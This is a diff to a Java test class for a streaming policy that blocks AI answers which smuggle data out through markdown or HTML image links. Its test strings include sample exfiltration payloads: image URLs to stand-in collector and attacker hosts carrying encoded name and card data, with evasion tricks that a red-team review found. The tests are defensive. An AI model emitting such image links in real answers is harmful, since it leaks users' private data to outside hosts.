@@ -690,6 +690,84 @@ class AgentPresetTest {
     }
 
     @Test
+    void afterAReleasedReferenceImageCodeFullOfLabelsIsNotJudgedAgainAtEveryRelease() {
+        // once a reference image was released, every release judged the remembered text again (60 times the work of
+        // the stream for typed Python, whose "]:" looked like definitions); now only a definition of a released label
+        long[] scanned = {0};
+        Detector counting = new Detector() {
+            @Override
+            public String id() {
+                return "counting";
+            }
+
+            @Override
+            public java.util.Set<String> types() {
+                return java.util.Set.of("COUNTED");
+            }
+
+            @Override
+            public void detect(CharSequence text, java.util.function.Consumer<Finding> sink) {
+                scanned[0] += text.length();
+            }
+        };
+        Policy counted = Policy.builder()
+                .preset(CompliancePreset.AGENT)
+                .detector(counting)
+                .build();
+        String answer = "![logo][logo]\n\n[logo]: https://cdn.example.com/img/logo.png\n\n```python\n"
+                + "def load(path: str) -> dict[str, int]:\n    return rows[\"total\"]\n".repeat(400) + "```\n";
+        StreamOutcome out = stream(counted, answer, 1);
+        assertThat(out.blocked()).isNull();
+        assertThat(out.received()).isEqualTo(answer);
+        // a scan per half window of new text (about 2.5 times the stream); judging at every release made it 34 times
+        assertThat(scanned[0]).isLessThan(8L * answer.length());
+    }
+
+    @Test
+    void definitionsAfterCarriageReturnsUnicodeSpaceLinesAndImagesOverLinesAreJudged() {
+        // found by a third red-team review: a bare carriage return ends a line (the definition was not remembered),
+        // a line of only U+2003 is not blank (it reset the paragraph inside a label), and an image whose alt text ran
+        // over a line break was cut by a release and its label never remembered
+        String u = "https://collector.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String p = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        for (String answer : List.of(
+                "Intro.\r\r[x]: " + u + "\n\n" + p.substring(0, 1000) + "\n\nSee ![chart][x].",
+                "Intro.\r\r[x]: " + u + "\n\n[x]: -\n\n" + p.substring(0, 1000) + "\n\nSee ![chart][x].\n\n" + p,
+                "[x\n\u2003\n]: " + u + "\n\n" + p.substring(0, 1000) + "\n\nSee ![chart][x].",
+                p.substring(0, 300)
+                        + "\n\nSee ![chart of the\nquarterly revenue by region and product line for the last four "
+                        + "quarters of the year][x].\nNote [x]: -\n\n" + p.substring(0, 1000) + "\n\n[x]: " + u
+                        + "\n")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size = 1; size <= 64; size++) {
+                assertThat(stream(answer, size).blocked())
+                        .as("%s in chunks of %d", answer.substring(0, 30), size)
+                        .isNotNull();
+            }
+        }
+        // a gallery of more than 64 defined images, then code: passes streamed as whole
+        StringBuilder gallery = new StringBuilder();
+        for (int i = 0; i < 70; i++) {
+            gallery.append("![figure ")
+                    .append(i)
+                    .append("][f")
+                    .append(i)
+                    .append("]\n\n[f")
+                    .append(i)
+                    .append("]: https://cdn.example.com/img/f")
+                    .append(i)
+                    .append(".png\n\n");
+        }
+        gallery.append("def load(path: str) -> dict[str, int]:\n    pass\n\n[the table]: see below\n");
+        assertAnswerPasses(gallery.toString());
+        for (int size : new int[] {1, 6, 10, 15}) {
+            assertThat(stream(gallery.toString(), size).blocked())
+                    .as("gallery in chunks of %d", size)
+                    .isNull();
+        }
+    }
+
+    @Test
     void aStreamedImgWhoseAltHoldsAClosingBracketIsHeldUntilTheTagCloses() {
         String answer = "Here you go. <img alt=\"a>b\" src=\"https://collect.attacker.example/p.png?pad="
                 + "z".repeat(300) + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> Thanks.";
